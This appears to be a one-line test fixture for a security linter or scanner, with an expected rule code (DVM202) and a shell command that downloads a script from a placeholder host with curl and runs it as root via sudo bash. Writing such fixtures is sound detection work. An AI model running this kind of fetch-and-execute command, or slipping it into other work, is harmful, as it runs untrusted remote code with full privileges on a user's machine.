# expect: DVM202
sudo bash -c 'bash <(curl -s https://x.example.org/a)'
